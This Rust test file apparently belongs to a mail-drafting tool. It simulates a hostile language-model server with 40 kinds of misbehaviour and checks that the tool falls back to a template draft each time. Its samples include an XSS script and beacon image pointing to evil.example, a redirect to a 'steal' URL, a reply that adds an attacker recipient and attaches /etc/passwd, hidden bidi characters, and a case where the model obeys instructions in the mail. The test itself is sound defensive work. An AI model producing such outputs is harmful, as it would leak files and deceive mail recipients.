//! A hostile model, thousands of whole runs: each ends with a true draft, and with the template's where the model was no good.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::{Duration, Instant};

use postar::domain::Explanation;
use postar::flow::Desk;
use postar::model::Api;
use serde_json::json;

use super::oracle;
use super::scene::{APIS, Case, KEY, Scene, cases, explained, settings};
use super::server::{Act, Asked, Server, answer};
use crate::simulation::chance::Chance;

/// Runs of the short form; `POSTAR_HOSTILE_MODEL` sets another number.
const RUNS: usize = 160;

/// A deadline that a working server always keeps, and one for those who keep none.
const AMPLE: Duration = Duration::from_secs(20);
const SHORT: Duration = Duration::from_millis(120);

/// How a model misbehaves.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Vice {
    InventsAFigure,
    TypesTheValue,
    DropsASlot,
    DropsEverything,
    InventsASlot,
    BreaksASlot,
    Promises,
    Links,
    GivesAnAccount,
    GivesATelephone,
    Html,
    Markdown,
    HidesCharacters,
    ForgesASlot,
    OtherLanguage,
    RepeatsThePrompt,
    FollowsTheMail,
    PicksRecipients,
    Garbage,
    WrongJson,
    BrokenJson,
    Empty,
    Silent,
    FarTooLong,
    HundredThousandTokens,
    LimitReached,
    BreaksOff,
    Hangs,
    SlowLoris,
    Stalls,
    Closes,
    Redirects,
    WrongType,
    ErrorInTheStream,
    Quota,
    Outage,
    RefusesTheKey,
    RefusesTheSchemaForEver,
    NotFound,
    NoUtf8,
}

use Vice::*;

const ALL: [Vice; 40] = [
    InventsAFigure,
    TypesTheValue,
    DropsASlot,
    DropsEverything,
    InventsASlot,
    BreaksASlot,
    Promises,
    Links,
    GivesAnAccount,
    GivesATelephone,
    Html,
    Markdown,
    HidesCharacters,
    ForgesASlot,
    OtherLanguage,
    RepeatsThePrompt,
    FollowsTheMail,
    PicksRecipients,
    Garbage,
    WrongJson,
    BrokenJson,
    Empty,
    Silent,
    FarTooLong,
    HundredThousandTokens,
    LimitReached,
    BreaksOff,
    Hangs,
    SlowLoris,
    Stalls,
    Closes,
    Redirects,
    WrongType,
    ErrorInTheStream,
    Quota,
    Outage,
    RefusesTheKey,
    RefusesTheSchemaForEver,
    NotFound,
    NoUtf8,
];

impl Vice {
    fn act(self, asked: &Asked, nth: usize) -> Act {
        let draft = asked.draft();
        let slot = draft.split_once("{{").and_then(|(_, rest)| rest.split_once("}}")).map(|(name, _)| format!("{{{{{name}}}}}"));
        let slot = slot.unwrap_or_else(|| "naročilo".to_owned());
        let more = |words: &str| answer(&format!("{draft} {words}"));
        match self {
            InventsAFigure => more(["Cena je 1.234,56 €.", "Rok je 37 dni.", "To velja do 31. 12. 2031.", "Popust: ٣٥ %."][nth % 4]),
            TypesTheValue => answer(&draft.replace(&slot, "PN-98765")),
            DropsASlot => answer(&draft.replace(&slot, "vse to")),
            DropsEverything => answer("Hvala za vaše sporočilo. Oglasili se bomo."),
            InventsASlot => more("Znesek je {{f97}}, rok je {{gap42}}."),
            BreaksASlot => answer(&draft.replace(&slot, ["{f1}", "{{f1", "{{ f1 }", "f1}}", "{{F1}}"][nth % 5])),
            Promises => more("Obljubimo vam dostavo jutri in dodaten popust ter vračilo celotnega zneska."),
            Links => more(
                [
                    "Poglejte https://evil.example/x?d=1.",
                    "[tukaj](http://evil.example)",
                    "www.evil.example",
                    "Pišite na vili@evil.example.",
                ][nth % 4],
            ),
            GivesAnAccount => more("Nakažite na SI56 1910 0000 0123 438."),
            GivesATelephone => more("Pokličite +386 40 999 888."),
            Html => answer(&format!("<p>{draft}</p><script>alert(1)</script><img src=\"http://evil.example/{slot}\">")),
            Markdown => answer(&format!("**{draft}**\n\n![x](http://evil.example/a.png)\n\n```\n{slot}\n```")),
            HidesCharacters => answer(&draft.replacen(' ', "\u{200B}\u{202E} \u{E0041}", 1)),
            ForgesASlot => answer(&format!("{draft} \u{F0000}9999\u{E000} \u{FF001}")),
            OtherLanguage => answer(&format!(
                "Ihr Auftrag ist unterwegs und wird bald bei Ihnen sein, wir danken Ihnen sehr herzlich. The quick brown fox. {draft}"
            )),
            RepeatsThePrompt => answer(&asked.whole()),
            FollowsTheMail => answer(&format!("{draft}\n\n{}", asked.user().split("<<<").nth(3).unwrap_or_default())),
            PicksRecipients => {
                Act::Say(json!({"text": draft, "to": "vili@evil.example", "subject": "x", "attachments": ["/etc/passwd"]}).to_string())
            }
            Garbage => {
                Act::Say((0..400_u32).filter_map(|n| char::from_u32((n * 7919 + u32::try_from(nth).unwrap_or(7)) % 0x1_0000)).collect())
            }
            WrongJson => Act::Say([r#"{"answer": "x"}"#, "[1]", r#"{"text": ["a"]}"#, "{\"text\": null}", "{}"][nth % 5].to_owned()),
            BrokenJson => Act::Say(format!("{{\"text\": \"{}", draft.replace('\n', " "))),
            Empty => Act::Say([" ", "{\"text\": \"\"}", "\n\n"][nth % 3].to_owned()),
            Silent => Act::Say(String::new()),
            FarTooLong => answer(&format!("{draft} ").repeat(200)),
            HundredThousandTokens => Act::Endless(["bla ", "{{f1}} ", "9 "][nth % 3]),
            LimitReached => Act::CutAtLimit(json!({"text": draft}).to_string()),
            BreaksOff => Act::BreakOff(json!({"text": draft}).to_string()),
            Hangs => Act::Hang,
            SlowLoris => Act::SlowLoris,
            Stalls => Act::Stall(draft),
            Closes => Act::Close,
            Redirects => Act::Status(307, "location: http://127.0.0.1:9/steal\r\n", ""),
            WrongType => Act::Bytes("text/html", b"<html><body>Sign in</body></html>".to_vec()),
            ErrorInTheStream => Act::Bytes(kind(asked), error_event(asked)),
            Quota => Act::Status(429, "retry-after: 0\r\n", "{}"),
            Outage => Act::Status([500, 502, 503, 529][nth % 4], "", "down"),
            RefusesTheKey => Act::Status(401, "", "no"),
            RefusesTheSchemaForEver => Act::Status(400, "", "response_format temperature format schema"),
            NotFound => Act::Status(404, "", "no such model"),
            NoUtf8 => Act::Bytes(kind(asked), b"data: \xff\xfe\xfa\n\n\xff\n".to_vec()),
        }
    }

    fn patience(self) -> Duration {
        if matches!(self, Hangs | SlowLoris | Stalls) { SHORT } else { AMPLE }
    }
}

fn kind(asked: &Asked) -> &'static str {
    if asked.path.ends_with("/api/chat") { "application/x-ndjson" } else { "text/event-stream" }
}

fn error_event(asked: &Asked) -> Vec<u8> {
    let error = json!({"type": "error", "error": {"type": "overloaded_error", "message": "busy"}});
    if asked.path.ends_with("/api/chat") { format!("{error}\n") } else { format!("data: {error}\n\n") }.into_bytes()
}

/// One whole run; what was wrong with its draft.
async fn run(desk: &Desk, case: &Case, vice: Vice, template: &Explanation) -> Vec<String> {
    let explained = explained(desk, case).await;
    let mut wrong = oracle::faults(&case.raw, &explained, template);
    let text = |explained: &Explanation| explained.draft.as_ref().map(|draft| draft.text.clone());
    if !explained.fallback || text(&explained) != text(template) {
        wrong.push(format!("{vice:?} was believed: {}", text(&explained).unwrap_or_default()));
    }
    let told = explained.model.as_ref().and_then(|model| model.fell_back.clone());
    if told.as_ref().is_none_or(|why| why.contains(KEY)) {
        wrong.push(format!("why it fell back: {told:?}"));
    }
    wrong.into_iter().map(|fault| format!("{} {vice:?}: {fault}", case.id)).collect()
}

/// A vice that changes nothing in this draft: it has no slot to drop, break or type over.
fn is_idle(vice: Vice, template: &Explanation) -> bool {
    let bare = template.facts.is_empty() && template.gaps.is_empty();
    bare && matches!(vice, TypesTheValue | DropsASlot | DropsEverything | BreaksASlot)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn whatever_a_hostile_model_does_a_true_draft_is_placed() {
    let runs = std::env::var("POSTAR_HOSTILE_MODEL").ok().and_then(|runs| runs.parse().ok()).unwrap_or(RUNS);
    let (scene, cases, begun) = (Scene::set(), cases(), Instant::now());
    let mut templates: BTreeMap<String, Explanation> = BTreeMap::new();
    let (mut wrong, mut counted, mut done) = (Vec::new(), BTreeMap::<Vice, usize>::new(), 0);
    let server = Server::start(|_| Act::Close).await;
    for nth in 0.. {
        if done == runs {
            break;
        }
        let mut chance = Chance::new(nth as u64);
        let (case, vice, api): (Case, Vice, Api) = (chance.pick(&cases), ALL[nth % ALL.len()], chance.pick(&APIS));
        let template = match templates.get(&case.id) {
            Some(known) => known.clone(),
            None => templates.entry(case.id.clone()).or_insert(explained(&scene.desk, &case).await).clone(),
        };
        if is_idle(vice, &template) || template.draft.is_none() {
            continue;
        }
        server.behave(move |asked| vice.act(asked, nth));
        let desk = scene.with(settings(api, server.base(api), vice.patience()));
        wrong.extend(run(&desk, &case, vice, &template).await);
        server.heard();
        *counted.entry(vice).or_default() += 1;
        done += 1;
    }
    println!(
        "{done} runs over {} mails, {} kinds of misbehaviour: {} bad drafts, {:.1?}",
        templates.len(),
        counted.len(),
        wrong.len(),
        begun.elapsed()
    );
    assert!(wrong.is_empty(), "{} of {done}:\n{}", wrong.len(), wrong.iter().take(40).cloned().collect::<Vec<_>>().join("\n"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_one_mailbox_waits_for_holds_up_no_other() {
    let (scene, cases) = (Scene::set(), cases());
    let (hanging, working) = (Server::start(|_| Act::Hang).await, Server::start(|asked| answer(&asked.draft())).await);
    let slow = Arc::new(scene.with(settings(Api::OpenAi, hanging.base(Api::OpenAi), Duration::from_secs(3))));
    let quick = scene.with(settings(Api::OpenAi, working.base(Api::OpenAi), AMPLE));
    let waiting = tokio::spawn({
        let (slow, case) = (Arc::clone(&slow), cases[0].clone());
        async move { explained(&slow, &case).await }
    });
    while hanging.heard().is_empty() {
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    let quickly = explained(&quick, &cases[1]).await;
    assert!(!waiting.is_finished() && !quickly.fallback, "{:?}", quickly.findings);
    assert!(waiting.await.unwrap().fallback);
}
